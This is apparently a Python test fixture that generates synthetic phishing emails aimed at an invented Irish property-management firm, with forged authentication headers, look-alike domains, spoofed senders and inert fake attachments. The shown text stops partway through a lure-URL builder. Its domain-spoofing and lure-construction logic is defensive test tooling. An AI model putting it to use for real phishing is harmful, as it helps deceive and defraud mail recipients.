"""Phishing and fraud mail of 2023-2026 as it reaches the MX of a small Irish property-management
firm (malicious set, second edition).

The receiving organisation is Liffeyside Property Management Ltd (``liffeysidepm.ie``); every
message is a whole RFC 5322 message as it sits in a staff mailbox after ``mx1.liffeysidepm.ie``
has added its ``Received`` and ``Authentication-Results`` headers. ``messages(split, seed)``
returns ``(name, bytes)`` pairs; only the ``test`` split exists (``dev`` is empty).

Families: Microsoft 365 / SharePoint / OneDrive credential lures, voicemail and fax notices with
HTML attachments, other SaaS credential lures (Google, Adobe, DocuSign, Dropbox, WeTransfer, "your
accountant shared a document"), webmail lures naming the recipient's own domain, bank, card and
consumer-brand billing problems, parcel and customs fees, toll and parking fines, tax refunds and
government notices, crypto exchanges and wallets, social-media policy lures, invoice / PO / RFQ /
remittance lures with dangerous attachments, business e-mail compromise (CEO, gift cards, wire,
payroll and vendor bank changes, thread hijack, compromised real supplier), QR-code lures,
HR / payroll / benefits lures, domain and hosting expiry, callback (telephone) fraud, abuse of
genuine services that carry the attacker's text, extortion, and lures in Spanish, Portuguese,
German, French, Italian, Dutch and Polish. Sender infrastructure mixes compromised legitimate
domains that authenticate, throwaway and random domains, look-alikes, spoofed brand domains that
fail DMARC, and free mail. The set was written blind to the analyser.

``python -m tests.support.en_lures2 [--seed N] [--out DIR]`` prints the counts per family and
writes ``DIR/*.eml``. Every person, company, telephone number, domain (other than brands and
genuinely abused services) and URL path is invented; IP addresses are documentation ranges.
"""

# ruff: noqa: E501
from __future__ import annotations

import argparse
import base64
import hashlib
import io
import quopri
import random
import string
import struct
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from email.header import Header as _EH
from email.utils import format_datetime
from pathlib import Path

Hdr = tuple[str, str]
Ent = tuple[list[Hdr], bytes]
Builder = Callable[[random.Random, int], bytes]

ORG = "Liffeyside Property Management Ltd"
DOM = "liffeysidepm.ie"
MX = "mx1.liffeysidepm.ie"
ALNUM = string.ascii_letters + string.digits
LOWER = string.ascii_lowercase + string.digits
HEX = "0123456789abcdef"
UHEX = "0123456789ABCDEF"


@dataclass(frozen=True)
class Person:
    first: str
    last: str
    title: str

    @property
    def name(self) -> str:
        return f"{self.first} {self.last}"

    @property
    def email(self) -> str:
        return f"{self.first.lower()}.{self.last.lower()}@{DOM}"


STAFF = [
    Person("Aoife", "Brennan", "Managing Director"),
    Person("Ciaran", "Mulvey", "Finance Manager"),
    Person("Niamh", "Costigan", "Accounts Assistant"),
    Person("Declan", "Furlong", "Property Manager"),
    Person("Sinead", "Harte", "Lettings Negotiator"),
    Person("Padraig", "Quinlan", "Maintenance Coordinator"),
    Person("Roisin", "Tierney", "Office Manager"),
    Person("Eoin", "Gallagher", "Block Manager"),
    Person("Grainne", "Doyle", "HR and Payroll Administrator"),
    Person("Tomasz", "Wojcik", "Facilities Technician"),
    Person("Orla", "Kinsella", "Client Services"),
]
CEO, FIN, AP, PM, LET, MAINT, OFFICE, BLOCK, HR, FAC, CS = STAFF
SHARED = [
    f"accounts@{DOM}",
    f"info@{DOM}",
    f"lettings@{DOM}",
    f"maintenance@{DOM}",
    f"payroll@{DOM}",
    f"reception@{DOM}",
]

# Small legitimate organisations whose mail accounts or web sites were compromised (invented).
COMPROMISED = [
    ("Ballyhale Community Creche", "ballyhalecreche.ie"),
    ("St. Brigid's National School", "stbrigidsns-kilcolm.ie"),
    ("Tullow Marine Diesel", "tullowmarinediesel.com"),
    ("Westport Hearing Clinic", "westporthearing.ie"),
    ("Harlan County Soil District", "harlansoilcd.org"),
    ("Kowhai Valley Orchards", "kowhaivalley.co.nz"),
    ("Redgum Physio", "redgumphysio.com.au"),
    ("Marston Parish Council", "marstonparishcouncil.org.uk"),
    ("Brightwater Animal Rescue", "brightwaterrescue.org"),
    ("Quarry Lane Dental", "quarrylanedental.co.uk"),
    ("Oak Hollow Middle School", "oakhollowms.org"),
    ("Pinecrest Roofing LLC", "pinecrestroofingllc.com"),
    ("Villa Serena Agriturismo", "villaserena-agri.it"),
    ("Lakeside Rowing Club", "lakesiderowing.org.nz"),
    ("Fenwick & Hale Surveyors", "fenwickhale.co.uk"),
    ("Town of Eastbrook", "eastbrook-ma.gov.example.org"),
    ("Mapleton Food Pantry", "mapletonpantry.org"),
    ("Araluen Accounting", "araluenaccounting.com.au"),
]
THROW_TLDS = [
    "top",
    "xyz",
    "shop",
    "online",
    "click",
    "sbs",
    "cfd",
    "icu",
    "buzz",
    "rest",
    "lol",
    "info",
    "cyou",
    "site",
    "store",
]
FREEMAIL = [
    "gmail.com",
    "outlook.com",
    "hotmail.com",
    "yahoo.com",
    "aol.com",
    "gmx.com",
    "mail.com",
    "proton.me",
    "zoho.com",
    "icloud.com",
]
WORDS = [
    "secure",
    "verify",
    "notice",
    "portal",
    "account",
    "update",
    "service",
    "support",
    "online",
    "access",
    "alert",
    "docs",
    "cloud",
    "file",
    "center",
    "billing",
    "auth",
    "sso",
    "mail",
    "review",
]
FIRST = [
    "James",
    "Mary",
    "Robert",
    "Linda",
    "Michael",
    "Sarah",
    "David",
    "Karen",
    "Daniel",
    "Lisa",
    "Mark",
    "Emily",
    "Paul",
    "Helen",
    "Steven",
    "Anna",
    "Kevin",
    "Laura",
    "Brian",
    "Grace",
    "Jason",
    "Megan",
    "Ryan",
    "Chloe",
    "Gary",
    "Fiona",
    "Tony",
    "Diane",
]
LAST = [
    "Walsh",
    "Murphy",
    "Harrison",
    "Coleman",
    "Bennett",
    "Fletcher",
    "Morgan",
    "Price",
    "Sullivan",
    "Hughes",
    "Gordon",
    "Reyes",
    "Foster",
    "Holt",
    "Barker",
    "Kendall",
    "Porter",
    "Marsh",
    "Doherty",
    "Lynch",
    "Carver",
    "Whitman",
]


def rs(r: random.Random, n: int, alphabet: str = ALNUM) -> str:
    return "".join(r.choice(alphabet) for _ in range(n))


def digits(r: random.Random, n: int) -> str:
    return rs(r, n, string.digits)


def pname(r: random.Random) -> tuple[str, str]:
    return r.choice(FIRST), r.choice(LAST)


def rdate(r: random.Random) -> datetime:
    start = datetime(2023, 1, 3, tzinfo=UTC)
    span = (datetime(2026, 11, 28, tzinfo=UTC) - start).total_seconds()
    dt = start + timedelta(seconds=r.randint(0, int(span)))
    off = r.choice([0, 0, 1, -4, -5, -7, 2, 3, 8, 5.5, 1, 0, -8, 10, 12])
    return dt.astimezone(timezone(timedelta(hours=off))).replace(microsecond=0)


def hdate(dt: datetime) -> str:
    return format_datetime(dt)


def ipdoc(r: random.Random) -> str:
    return f"{r.choice(['192.0.2', '198.51.100', '203.0.113'])}.{r.randint(2, 250)}"


def ew(s: str, cs: str = "utf-8") -> str:
    try:
        s.encode("ascii")
        return s
    except UnicodeEncodeError:
        pass
    try:
        s.encode(cs)
    except (UnicodeEncodeError, LookupError):
        cs = "utf-8"
    return _EH(s, cs, maxlinelen=76).encode()


def addr(name: str, email: str, cs: str = "utf-8") -> str:
    if not name:
        return email
    enc = ew(name, cs)
    if enc != name:
        return f"{enc} <{email}>"
    if any(c in name for c in ',.()<>@:;"[]'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def leaf(ctype: str, text: str, cs: str = "utf-8", cte: str = "quoted-printable", params: str = "") -> Ent:
    try:
        raw = text.encode(cs)
    except UnicodeEncodeError:
        cs = "utf-8"
        raw = text.encode(cs)
    if cte == "7bit" and any(b > 127 for b in raw):
        cte = "quoted-printable"
    if cte == "7bit" and any(len(line) > 900 for line in raw.split(b"\n")):
        cte = "quoted-printable"
    if cte == "quoted-printable":
        body = quopri.encodestring(raw)
    elif cte == "base64":
        body = base64.encodebytes(raw)
    else:
        body = raw
    if not body.endswith(b"\n"):
        body += b"\n"
    return [("Content-Type", f'{ctype}; charset="{cs}"{params}'), ("Content-Transfer-Encoding", cte)], body


def boundary(r: random.Random) -> str:
    style = r.randrange(5)
    if style == 0:
        return f"_000_{rs(r, 40, UHEX)}namp_"
    if style == 1:
        return "000000000000" + rs(r, 16, HEX)
    if style == 2:
        return f"----=_Part_{r.randint(100000, 999999)}_{r.randint(100000000, 999999999)}.{digits(r, 13)}"
    if style == 3:
        return f"--b1_{rs(r, 32, HEX)}"
    return f"=_{rs(r, 28, HEX)}"


def hbytes(hs: Sequence[Hdr]) -> bytes:
    return b"".join(f"{k}: {v}\n".encode("ascii") for k, v in hs)


def multi(r: random.Random, sub: str, parts: Sequence[Ent], params: str = "") -> Ent:
    b = boundary(r)
    chunks = [b"This is a multi-part message in MIME format.\n"] if r.random() < 0.4 else []
    for hs, body in parts:
        chunks.append(f"\n--{b}\n".encode())
        chunks.append(hbytes(hs) + b"\n" + body)
    chunks.append(f"\n--{b}--\n".encode())
    return [("Content-Type", f'multipart/{sub}; boundary="{b}"{params}')], b"".join(chunks)


def attach(filename: str, ctype: str, data: bytes, inline: bool = False, cid: str = "") -> Ent:
    disp = "inline" if inline else "attachment"
    hs = [
        ("Content-Type", f'{ctype}; name="{filename}"'),
        ("Content-Disposition", f'{disp}; filename="{filename}"'),
        ("Content-Transfer-Encoding", "base64"),
    ]
    if cid:
        hs.append(("Content-ID", f"<{cid}>"))
    return hs, base64.encodebytes(data)


# --------------------------------------------------------------------------------------------
# File payloads (inert)


def fake_pdf(r: random.Random, title: str, lines: Sequence[str], uri: str = "") -> bytes:
    text = "BT /F1 14 Tf 60 760 Td (" + title.replace("(", "[").replace(")", "]") + ") Tj ET\n"
    y = 730
    for ln in lines:
        safe = ln.encode("latin-1", "replace").decode("latin-1").replace("(", "[").replace(")", "]")
        text += f"BT /F1 10 Tf 60 {y} Td ({safe}) Tj ET\n"
        y -= 16
    objs = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>"
        + (" /Annots [6 0 R]" if uri else "")
        + " >>",
        f"<< /Length {len(text)} >>\nstream\n{text}endstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if uri:
        objs.append(
            f"<< /Type /Annot /Subtype /Link /Rect [40 {y - 40} 560 {y + 10}] /Border [0 0 0] /A << /S /URI /URI ({uri}) >> >>"
        )
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for n, o in enumerate(objs, 1):
        offs.append(out.tell())
        out.write(f"{n} 0 obj\n{o}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode())
    for o in offs:
        out.write(f"{o:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /ID [<{rs(r, 32, HEX)}><{rs(r, 32, HEX)}>] >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def fake_zip(members: dict[str, bytes], encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            zi = zipfile.ZipInfo(name, (2025, 3, 4, 10, 12, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    raw = bytearray(buf.getvalue())
    if encrypted:
        # mark every entry as traditionally encrypted (general-purpose bit 0)
        i = 0
        while True:
            i = raw.find(b"PK\x03\x04", i)
            if i < 0:
                break
            raw[i + 6] |= 1
            i += 4
        i = 0
        while True:
            i = raw.find(b"PK\x01\x02", i)
            if i < 0:
                break
            raw[i + 8] |= 1
            i += 4
    return bytes(raw)


def fake_7z(r: random.Random, n: int = 900) -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + r.randbytes(n)


def fake_iso(r: random.Random, inner: str) -> bytes:
    pvd = b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + inner.upper()[:32].encode().ljust(32) + r.randbytes(64)
    body = b"\x00" * 0x8000 + pvd.ljust(2048, b"\x00") + b"\xffCD001\x01".ljust(2048, b"\x00")
    return body + inner.encode() + b"\x00" + r.randbytes(1200)


def fake_lnk(r: random.Random, target: str, args: str) -> bytes:
    head = bytes.fromhex("4c0000000114020000000000c000000000000046") + r.randbytes(56)
    tail = target.encode("utf-16-le") + b"\x00\x00" + args.encode("utf-16-le") + b"\x00\x00"
    return head + struct.pack("<H", len(args)) + tail + r.randbytes(120)


def fake_onenote(r: random.Random, text: str) -> bytes:
    return (
        bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
        + r.randbytes(64)
        + text.encode("utf-16-le")
        + r.randbytes(400)
    )


def png_qr(r: random.Random, scale: int = 6) -> bytes:
    n = 29
    m = [[r.random() < 0.5 for _ in range(n)] for _ in range(n)]
    for oy, ox in ((0, 0), (0, n - 7), (n - 7, 0)):
        for y in range(7):
            for x in range(7):
                edge = y in (0, 6) or x in (0, 6)
                core = 2 <= y <= 4 and 2 <= x <= 4
                m[oy + y][ox + x] = edge or core
    quiet = 4
    size = (n + 2 * quiet) * scale
    rows = []
    for py in range(size):
        row = bytearray([0])
        my = py // scale - quiet
        for px in range(size):
            mx = px // scale - quiet
            dark = 0 <= my < n and 0 <= mx < n and m[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    raw = zlib.compress(b"".join(rows), 9)

    def chunk(tag: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data) & 0xFFFFFFFF)
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", raw)
        + chunk(b"IEND", b"")
    )


PDF = "application/pdf"


# --------------------------------------------------------------------------------------------
# Transport and authentication


@dataclass
class Route:
    envelope: str
    helo: str
    ip: str
    spf: str
    from_dom: str
    dkim: list[tuple[str, str, str]] = field(default_factory=list)  # (d, selector, result)
    dmarc: str = "none"
    policy: str = ""
    rdns: str = ""
    hops: list[str] = field(default_factory=list)
    tls: bool = True
    temperror: bool = False
    extra: list[Hdr] = field(default_factory=list)


def fold_b64(s: str, width: int = 70) -> str:
    return "\n\t ".join(s[i : i + width] for i in range(0, len(s), width))


def qid(r: random.Random) -> str:
    return f"4{rs(r, 1, 'bcdfgh')}{rs(r, 2, 'BCDFGHJKLMNPQRSTVWXYZ')}{digits(r, 1)}{rs(r, 7, 'bcdfghjklmnpqrstvwxyz0123456789')}"


def spf_text(res: str, mailfrom: str, ip: str) -> str:
    why = {
        "pass": f"domain of {mailfrom} designates {ip} as permitted sender",
        "softfail": f"domain of transitioning {mailfrom} does not designate {ip} as permitted sender",
        "fail": f"domain of {mailfrom} does not designate {ip} as permitted sender",
        "neutral": f"{ip} is neither permitted nor denied by domain of {mailfrom}",
        "temperror": f"DNS timeout looking up SPF record for {mailfrom.split('@')[-1]}",
        "permerror": f"too many DNS lookups in SPF record of {mailfrom.split('@')[-1]}",
    }.get(res, f"domain of {mailfrom} does not designate permitted sender hosts")
    return f"spf={res} ({MX}: {why}) smtp.mailfrom={mailfrom}"


def deliver(r: random.Random, rt: Route, rcpt: str, dt: datetime, headers: Sequence[Hdr], ent: Ent) -> bytes:
    ehs, body = ent
    signed = r.choice(
        [
            "from:to:subject:date:message-id:mime-version:content-type",
            "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
            "date:from:to:subject:message-id:content-type",
        ]
    )
    sigs: list[Hdr] = []
    results: list[str] = []
    for d, s, res in rt.dkim:
        bh = base64.b64encode(hashlib.sha256(body).digest()).decode()
        b = base64.b64encode(r.randbytes(256)).decode()
        t = int(dt.timestamp()) - r.randint(1, 30)
        sigs.append(
            (
                "DKIM-Signature",
                f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s}; t={t};\n\th={signed};\n\tbh={bh};\n\tb={fold_b64(b)}",
            )
        )
        why = {
            "pass": " (2048-bit key; unprotected)",
            "fail": " (body hash did not verify)",
            "temperror": " (DNS timeout looking up key)",
            "neutral": " (no key for signature)",
        }.get(res, "")
        results.append(f"dkim={res}{why} header.d={d} header.i=@{d} header.s={s} header.b={b[:8]}")
    if not results:
        results.append("dkim=none (message not signed)")
    if rt.dmarc == "none":
        dmarc = f"dmarc=none header.from={rt.from_dom}"
    else:
        pol = rt.policy or "none"
        dis = (
            {"reject": "REJECT", "quarantine": "QUARANTINE"}.get(pol, "NONE")
            if rt.dmarc == "fail"
            else "NONE"
        )
        dmarc = f"dmarc={rt.dmarc} (p={pol.upper()} sp={pol.upper()} dis={dis}) header.from={rt.from_dom}"
    parts = [MX, spf_text(rt.spf, rt.envelope, rt.ip), *results, dmarc]
    if rt.temperror:
        parts[-1] = f"dmarc=temperror (DNS timeout) header.from={rt.from_dom}"
    auth = ";\n\t".join(parts)
    arrived = dt + timedelta(seconds=r.randint(2, 90))
    local = arrived.astimezone(timezone(timedelta(hours=1 if 4 <= arrived.month <= 10 else 0)))
    rdns = rt.rdns or rt.helo
    tls = (
        "\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n\t(No client certificate requested)"
        if rt.tls
        else ""
    )
    received = f"from {rt.helo} ({rdns} [{rt.ip}]){tls}\n\tby {MX} (Postfix) with {'ESMTPS' if rt.tls else 'ESMTP'} id {qid(r)}\n\tfor <{rcpt}>; {hdate(local)}"
    top: list[Hdr] = [
        ("Return-Path", f"<{rt.envelope}>"),
        ("Delivered-To", rcpt),
        ("Authentication-Results", auth),
        ("Received", received),
    ]
    if rt.spf != "none":
        top.append(
            (
                "Received-SPF",
                f"{rt.spf} client-ip={rt.ip}; envelope-from={rt.envelope}; helo={rt.helo}; receiver={MX}",
            )
        )
    top += [
        ("Received", h.replace("{when}", hdate(dt + timedelta(seconds=r.randint(0, 3))))) for h in rt.hops
    ]
    top += sigs
    out = list(headers) + rt.extra
    if not any(k.lower() == "mime-version" for k, _ in out):
        out.append(("MIME-Version", "1.0"))
    data = hbytes(top) + hbytes(out) + hbytes(ehs) + b"\n" + body
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def throwaway_domain(r: random.Random) -> str:
    style = r.randrange(4)
    if style == 0:
        return f"{rs(r, r.randint(6, 11), string.ascii_lowercase)}.{r.choice(THROW_TLDS)}"
    if style == 1:
        return f"{r.choice(WORDS)}-{r.choice(WORDS)}{r.randint(1, 99)}.{r.choice(THROW_TLDS)}"
    if style == 2:
        return f"{rs(r, 3, string.ascii_lowercase)}{digits(r, 3)}{rs(r, 2, string.ascii_lowercase)}.{r.choice(['com', 'net', 'org', 'biz'])}"
    return f"{r.choice(['mail', 'noreply', 'info', 'notify'])}.{rs(r, 8, string.ascii_lowercase)}.{r.choice(THROW_TLDS)}"


def lookalike(r: random.Random, brand_dom: str) -> str:
    base, _, tld = brand_dom.partition(".")
    style = r.randrange(7)
    if style == 0 and "m" in base:
        return base.replace("m", "rn", 1) + "." + tld
    if style == 1 and "o" in base:
        return base.replace("o", "0", 1) + "." + tld
    if style == 2:
        return f"{base}-{r.choice(['support', 'secure', 'billing', 'verify', 'team', 'service'])}.{r.choice(['com', 'net', 'co', 'org'])}"
    if style == 3:
        return f"{base}.{r.choice(['co', 'cc', 'support', 'help', 'app', 'us', 'center'])}"
    if style == 4:
        return f"{r.choice(['my', 'secure', 'account', 'service', 'e'])}{base}.{r.choice(['com', 'net'])}"
    if style == 5 and "l" in base:
        return base.replace("l", "1", 1) + "." + tld
    return f"{base}{r.choice(['-online', 'mail', '-noreply', 'notices', '-id'])}.{r.choice(['com', 'info', 'net'])}"


def mk_route(r: random.Random, kind: str, from_email: str, brand_dom: str = "") -> Route:
    dom = from_email.split("@")[1]
    ip = ipdoc(r)
    if kind == "compromised":
        host = r.choice(["mail", "smtp", "mx", "webmail", "cpanel", "server"]) + f".{dom}"
        if r.random() < 0.5:
            host = r.choice(
                [
                    f"p3plzcpnl{digits(r, 6)}.prod.phx3.secureserver.net",
                    f"s{r.randint(100, 999)}.hostinger-mail.example.net",
                    f"box{r.randint(1000, 9999)}.bluehost-relay.example.com",
                    f"cp{r.randint(10, 99)}.webhost-ie.example.net",
                ]
            )
        res = r.choice(["pass", "pass", "pass", "none"])
        return Route(
            from_email,
            host,
            ip,
            "pass",
            dom,
            [(dom, r.choice(["default", "s1", "x", "mail"]), "pass")] if r.random() < 0.75 else [],
            "pass" if res == "pass" else "none",
            r.choice(["none", "quarantine", "none"]) if res == "pass" else "",
            host,
        )
    if kind == "m365":
        # compromised Microsoft 365 tenant of a small organisation
        host = f"{rs(r, 3, 'A-Z'.replace('-', '') + 'ABCDEFGHJ')}{r.choice(['P', 'B'])}R{digits(r, 2)}-{r.choice(['AM', 'DB', 'VI', 'PA', 'MW', 'SN'])}{digits(r, 1)}-obe.outbound.protection.outlook.com"
        tenant = dom.split(".")[0].replace("-", "")
        rt = Route(
            from_email,
            host,
            ipdoc(r),
            "pass",
            dom,
            [
                (dom, "selector1", "pass"),
                (f"{tenant}.onmicrosoft.com", "selector1-" + tenant + "-onmicrosoft-com", "pass"),
            ],
            "pass",
            r.choice(["none", "quarantine", "reject"]),
            host,
        )
        return rt
    if kind == "throwaway":
        host = f"{r.choice(['mail', 'smtp', 'mta', 'out'])}{r.randint(1, 9)}.{dom}"
        dk = [(dom, r.choice(["default", "dkim", "mail", "k1"]), "pass")] if r.random() < 0.7 else []
        return Route(
            f"{r.choice(['bounce', 'return', 'root', from_email.split('@')[0]])}@{dom}",
            host,
            ip,
            r.choice(["pass", "pass", "pass", "neutral", "none"]),
            dom,
            dk,
            "pass" if dk and r.random() < 0.6 else "none",
            r.choice(["", "none"]),
            f"{ip.replace('.', '-')}.static.{r.choice(['vpsnet', 'cloudhost', 'hostnode'])}.example.net"
            if r.random() < 0.5
            else host,
        )
    if kind == "lookalike":
        host = f"mail.{dom}"
        dk = [(dom, "default", "pass")]
        return Route(
            from_email, host, ip, "pass", dom, dk, r.choice(["pass", "none"]), r.choice(["none", ""]), host
        )
    if kind == "spoof":
        pol = r.choice(["reject", "reject", "quarantine", "quarantine", "none"])
        spf = r.choice(["fail", "softfail", "softfail", "none", "neutral"])
        env = r.choice([f"{rs(r, 6, string.ascii_lowercase)}@{throwaway_domain(r)}", from_email])
        if env != from_email:
            spf = r.choice(["pass", "none", "softfail"])
        helo = r.choice(
            [
                f"[{ip}]",
                "localhost.localdomain",
                f"vps{digits(r, 5)}.example.net",
                f"win-{rs(r, 11, UHEX)}",
                env.split("@")[1],
            ]
        )
        rt = Route(
            env,
            helo,
            ip,
            spf,
            dom,
            [(dom, "s1", "fail")] if r.random() < 0.2 else [],
            "fail",
            pol,
            "unknown" if r.random() < 0.5 else f"{ip.replace('.', '-')}.dsl.example.net",
            tls=r.random() < 0.6,
        )
        if r.random() < 0.08:
            rt.temperror = True
        return rt
    if kind == "freemail":
        if dom == "gmail.com":
            host = f"mail-{r.choice(['wr1', 'ej1', 'pj1', 'qt1', 'yw1'])}-f{r.randint(40, 200)}.google.com"
            return Route(
                from_email, host, ipdoc(r), "pass", dom, [(dom, "20230601", "pass")], "pass", "none", host
            )
        if dom in ("outlook.com", "hotmail.com"):
            host = f"{rs(r, 3, 'EUAPDBV')}{digits(r, 2)}-{rs(r, 3, 'AMDBVE')}{digits(r, 1)}-obe.outbound.protection.outlook.com"
            return Route(
                from_email, host, ipdoc(r), "pass", dom, [(dom, "selector1", "pass")], "pass", "none", host
            )
        host = f"sonic{r.randint(300, 330)}-{r.randint(1, 40)}.consmr.mail.{dom.split('.')[0]}.example.net"
        return Route(
            from_email,
            host,
            ipdoc(r),
            "pass",
            dom,
            [(dom, "s2048", "pass")],
            "pass",
            r.choice(["reject", "none"]),
            host,
        )
    if kind == "softfail":
        return Route(from_email, f"mail.{dom}", ip, "softfail", dom, [], "none", "", f"mail.{dom}")
    raise ValueError(kind)


SENDER_KINDS = [
    "compromised",
    "compromised",
    "compromised",
    "m365",
    "throwaway",
    "throwaway",
    "throwaway",
    "lookalike",
    "lookalike",
    "spoof",
    "spoof",
    "freemail",
]


def pick_sender(
    r: random.Random, brand: str, brand_dom: str, kind: str = "", local: str = "", disp: str = ""
) -> tuple[str, Route, str]:
    """Return (From header, Route, kind)."""
    kind = kind or r.choice(SENDER_KINDS)
    local = local or r.choice(
        [
            "no-reply",
            "noreply",
            "support",
            "notification",
            "info",
            "security",
            "alert",
            "service",
            "admin",
            "billing",
            "account",
            "do-not-reply",
        ]
    )
    if kind in ("compromised", "m365", "softfail"):
        _org, dom = r.choice(COMPROMISED)
        f, ln = pname(r)
        em = r.choice(
            [
                f"{f.lower()}@{dom}",
                f"{f[0].lower()}{ln.lower()}@{dom}",
                f"office@{dom}",
                f"admin@{dom}",
                f"info@{dom}",
                f"accounts@{dom}",
            ]
        )
    elif kind == "throwaway":
        dom = throwaway_domain(r)
        em = f"{local}@{dom}"
    elif kind == "lookalike":
        dom = lookalike(r, brand_dom) if brand_dom else throwaway_domain(r)
        em = f"{local}@{dom}"
    elif kind == "spoof":
        dom = brand_dom or DOM
        em = f"{local}@{dom}"
    else:
        dom = r.choice(FREEMAIL)
        f, ln = pname(r)
        em = r.choice(
            [
                f"{f.lower()}{ln.lower()}{r.randint(1, 99)}@{dom}",
                f"{brand.lower().replace(' ', '')}.{r.choice(['support', 'help', 'team'])}{r.randint(1, 999)}@{dom}",
                f"{rs(r, 9, string.ascii_lowercase)}{digits(r, 2)}@{dom}",
            ]
        )
    disp = disp or r.choice(
        [
            brand,
            brand,
            f"{brand} Support",
            f"{brand} Account Team",
            f"{brand} via {dom.split('.')[0].title()}",
            f"{brand} <{brand.lower().replace(' ', '')}@secure-notice>".replace("<", "").replace(">", ""),
            brand if " " in brand else f"{brand}.com",
        ]
    )
    return addr(disp, em), mk_route(r, kind, em, brand_dom), kind


def mid(r: random.Random, dom: str) -> str:
    style = r.randrange(6)
    if style == 0:
        return f"<{rs(r, 4, UHEX)}PR{digits(r, 2)}MB{digits(r, 4)}{rs(r, 22, UHEX)}@{rs(r, 4, UHEX)}PR{digits(r, 2)}MB{digits(r, 4)}.eurprd{digits(r, 2)}.prod.outlook.com>"
    if style == 1:
        return f"<{rs(r, 8, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 4, HEX)}-{rs(r, 12, HEX)}@{dom}>"
    if style == 2:
        return f"<{digits(r, 14)}.{rs(r, 10, UHEX)}@{dom}>"
    if style == 3:
        return f"<{rs(r, 32, HEX)}@{r.choice([dom, 'localhost', 'WIN-' + rs(r, 11, UHEX)])}>"
    if style == 4:
        return (
            f"<CA{rs(r, 40, ALNUM + '-_')}@mail.gmail.com>"
            if "gmail" in dom
            else f"<{rs(r, 20, LOWER)}@{dom}>"
        )
    return f"<{rs(r, 16, LOWER)}.{digits(r, 10)}@{dom}>"


def recipient(r: random.Random, pool: Sequence[Person] | None = None) -> str:
    if r.random() < 0.2:
        return r.choice(SHARED)
    return r.choice(list(pool) if pool else STAFF).email


def base_headers(
    r: random.Random,
    frm: str,
    rcpt: str,
    subject: str,
    dt: datetime,
    msgid_dom: str,
    cs: str = "utf-8",
    reply_to: str = "",
    bcc: bool | None = None,
    extra: Sequence[Hdr] = (),
) -> list[Hdr]:
    if bcc is None:
        bcc = r.random() < 0.25
    if bcc:
        to = r.choice(
            [
                "undisclosed-recipients:;",
                frm.split("<")[-1].rstrip(">") if "<" in frm else frm,
                f"{rs(r, 7, string.ascii_lowercase)}@{msgid_dom}",
            ]
        )
    else:
        to = rcpt if r.random() < 0.6 else addr(rcpt.split("@")[0].replace(".", " ").title(), rcpt)
    hs: list[Hdr] = [
        ("From", frm),
        ("To", to),
        ("Subject", ew(subject, cs)),
        ("Date", hdate(dt)),
        ("Message-ID", mid(r, msgid_dom)),
    ]
    if reply_to:
        hs.append(("Reply-To", reply_to))
    for k, v in extra:
        hs.append((k, v))
    if r.random() < 0.3:
        hs.append(
            (
                "X-Mailer",
                r.choice(
                    [
                        "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
                        "Microsoft Outlook 16.0",
                        "Microsoft Office Outlook 12.0",
                        "Foxmail 7.2.25.375",
                        "Roundcube Webmail/1.6.5",
                        "Open-Xchange Mailer v7.10.6",
                        "Sendinblue",
                    ]
                ),
            )
        )
    if r.random() < 0.15:
        hs.append(("X-Priority", "1 (Highest)"))
        hs.append(("Importance", "High"))
    return hs


# --------------------------------------------------------------------------------------------
# Links, obfuscation and bodies


def b64s(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def with_rcpt(r: random.Random, url: str, rcpt: str) -> str:
    style = r.randrange(6)
    if style == 0:
        return f"{url}#{rcpt}"
    if style == 1:
        return f"{url}#{b64s(rcpt)}"
    if style == 2:
        return f"{url}{'&' if '?' in url else '?'}email={rcpt.replace('@', '%40')}"
    if style == 3:
        return f"{url}{'&' if '?' in url else '?'}e={b64s(rcpt)}"
    if style == 4:
        return f"{url}{'&' if '?' in url else '?'}id={rs(r, 12, LOWER)}#{b64s(rcpt)}"
    return url


def host_url(r: random.Random, word: str) -> str:
    """A landing page on attacker-controlled or abused hosting."""
    w = word.lower().replace(" ", "")
    style = r.randrange(16)
    path = r.choice(
        ["", "index.html", "login", "auth/", "verify.php", "secure/", "m365/", "doc/view", "?sso=1", "wp/"]
    )
    if style == 0:
        cid = "bafybei" + rs(r, 52, "abcdefghijklmnopqrstuvwxyz234567")
        return r.choice(
            [
                f"https://ipfs.io/ipfs/{cid}/{rs(r, 6, LOWER)}.html",
                f"https://{cid}.ipfs.dweb.link/",
